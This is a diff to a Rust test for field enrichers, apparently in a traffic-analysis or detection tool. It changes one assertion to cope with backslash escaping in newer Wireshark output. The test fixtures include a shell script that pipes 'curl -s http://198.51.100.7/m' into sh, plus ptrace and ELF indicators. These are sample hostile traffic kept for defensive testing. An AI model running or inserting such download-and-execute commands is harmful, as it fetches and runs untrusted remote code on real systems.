@@ -156,13 +156,10 @@ fn default_enrichers_give_readable_info_and_filterable_fields() {
     assert_eq!(present[6], [(5, "http://198.51.100.7/x.sh")]);
     assert_eq!(present[7], [(6, "200")]);
     assert_eq!(present[8], [(7, "O_RDONLY|O_LARGEFILE")]);
-    assert_eq!(
-        present[9],
-        [
-            (8, r"#!/bin/sh\ncurl -s http://198.51.100.7/m | sh\n"),
-            (9, "Shell script, interpreter /bin/sh (magic bytes)")
-        ]
-    );
+    // Wireshark 4.4 and later escape backslashes in -T fields output; 4.0 does not
+    assert_eq!(present[9][0].0, 8);
+    assert_eq!(present[9][0].1.replace(r"\\", r"\"), r"#!/bin/sh\ncurl -s http://198.51.100.7/m | sh\n");
+    assert_eq!(present[9][1], (9, "Shell script, interpreter /bin/sh (magic bytes)"));
     assert_eq!(present[10][1], (9, "ELF 64-bit executable, x86-64 (magic bytes)"));
     assert_eq!(present[11], [(10, "PTRACE_ATTACH")]);
     assert_eq!(
